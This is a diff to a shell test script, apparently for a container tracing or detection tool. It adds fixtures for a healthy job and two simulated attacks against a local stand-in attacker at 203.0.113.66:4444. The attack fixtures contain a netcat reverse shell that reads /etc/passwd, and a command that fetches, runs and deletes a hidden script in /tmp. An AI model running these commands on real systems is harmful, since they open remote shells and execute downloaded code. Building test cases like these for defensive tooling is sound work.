@@ -261,6 +261,53 @@ mkdir /tmp/d; mv /tmp/names /tmp/d/; grep -c S /tmp/d/names; rm -r /tmp/d; exit 
   run job
 }
 
+# host_bundle SCRIPT: a bundle "job" that uses the network of the host.
+host_bundle() {
+  sh_bundle job "$1"
+  edit_spec job 'del(.linux.namespaces[] | select(.type == "network"))'
+  flag --network=host
+}
+
+# job SETTINGS: a job as it should be, whose settings are a shell script that it reads.
+job() {
+  host_bundle '. /etc/job.conf; tr a-z A-Z < /etc/hostname > /tmp/report; wc -c /tmp/report; exit 0'
+  echo "$1" > /run/bundles/job/rootfs/etc/job.conf
+}
+
+# attacker SCRIPT: the other end of a connection to 203.0.113.66:4444, which says what the script prints.
+attacker() {
+  "$busybox" ip link set lo up
+  "$busybox" ip address replace 203.0.113.66/32 dev lo
+  bash -c "$1" | "$busybox" nc -l -p 4444 > /dev/null &
+  behind=$!
+  sleep 0.5
+}
+
+healthy_job() {
+  about 'A job reads its settings, which are a shell script, and writes a report.'
+  decisive 'Exiting with status: 0'
+  job 'LEVEL=info'
+  run job
+}
+
+attack_reverse_shell() {
+  about 'The job of healthy-job, of whose settings somebody made a reverse shell; three commands are typed at its other end.'
+  decisive 'Addr: 203.0.113.66, Port: 4444'
+  attacker 'sleep 1; echo id; echo "cat /etc/passwd"; sleep 1; echo "touch /tmp/was-here; exit"; sleep 1'
+  job 'nc 203.0.113.66 4444 -e /bin/sh'
+  run job
+  finish
+}
+
+attack_dropped_program() {
+  about 'A shell fetches a script over the network, makes it executable in /tmp under a hidden name, runs it and removes it.'
+  decisive '/tmp/.cache-x'
+  attacker 'printf "#!/bin/sh\\nhead -n 1 /etc/passwd\\n"; sleep 0.5'
+  host_bundle 'nc 203.0.113.66 4444 > /tmp/.cache-x; chmod +x /tmp/.cache-x; /tmp/.cache-x; rm /tmp/.cache-x; exit 0'
+  run job
+  finish
+}
+
 healthy_threads() {
   about 'A program with four threads that read a file each.'
   decisive 'worker-3'
@@ -891,6 +938,9 @@ healthy-pattern            20221219 text     gz    healthy       healthy_pattern
 healthy-zone               20240729 text     gz    healthy       healthy_zone
 healthy-pipeline           20221219 text     gz    healthy       healthy_pipeline
 healthy-threads            20240729 text     gz    healthy       healthy_threads
+healthy-job                20240729 text     gz    healthy       healthy_job
+attack-reverse-shell       20240729 text     gz    healthy       attack_reverse_shell
+attack-dropped-program     20240729 text     gz    healthy       attack_dropped_program
 healthy-unsupported        both     text     gz    healthy       healthy_unsupported
 healthy-bind-mount         20221219 text     gz    healthy       healthy_bind_mount
 healthy-lifecycle          both     text     gz    healthy       healthy_lifecycle
